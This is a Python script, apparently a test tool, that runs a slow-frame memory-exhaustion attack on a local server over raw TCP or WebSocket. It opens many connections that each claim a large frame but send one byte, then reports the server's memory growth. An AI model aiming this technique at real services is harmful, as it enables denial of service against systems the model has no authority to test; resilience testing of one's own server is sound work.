#!/usr/bin/env python3
"""5-byte-prefix attack: N connections each claim a 256 KiB frame and send 1 byte of it.
Prints the server's RSS before and after. Usage: prefix.py PID PORT N [ws]"""
import asyncio, sys, struct, os, time

def rss_kb(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])

async def one(port, ws, conns):
    r, w = await asyncio.open_connection("127.0.0.1", port)
    if ws:
        w.write(b"GET /v1/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
        await r.readuntil(b"\r\n\r\n")
        # binary frame, FIN, masked, 64-bit length 262000, mask, 1 byte
        w.write(bytes([0x82, 0xFF]) + struct.pack(">Q", 262000) + b"\x01\x02\x03\x04" + b"\x00")
    else:
        w.write(struct.pack(">I", 262000) + b"\x00")
    await w.drain()
    conns.append((r, w))

async def main():
    pid, port, n = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    ws = len(sys.argv) > 4
    before = rss_kb(pid)
    conns = []
    for i in range(0, n, 100):
        await asyncio.gather(*(one(port, ws, conns) for _ in range(min(100, n - i))))
    await asyncio.sleep(1.0)
    after = rss_kb(pid)
    print(f"{'ws' if ws else 'tcp'} conns={len(conns)} rss_before={before/1024:.1f}MB rss_after={after/1024:.1f}MB per_conn={(after-before)/len(conns):.1f}KB")
    for r, w in conns:
        w.close()

asyncio.run(main())
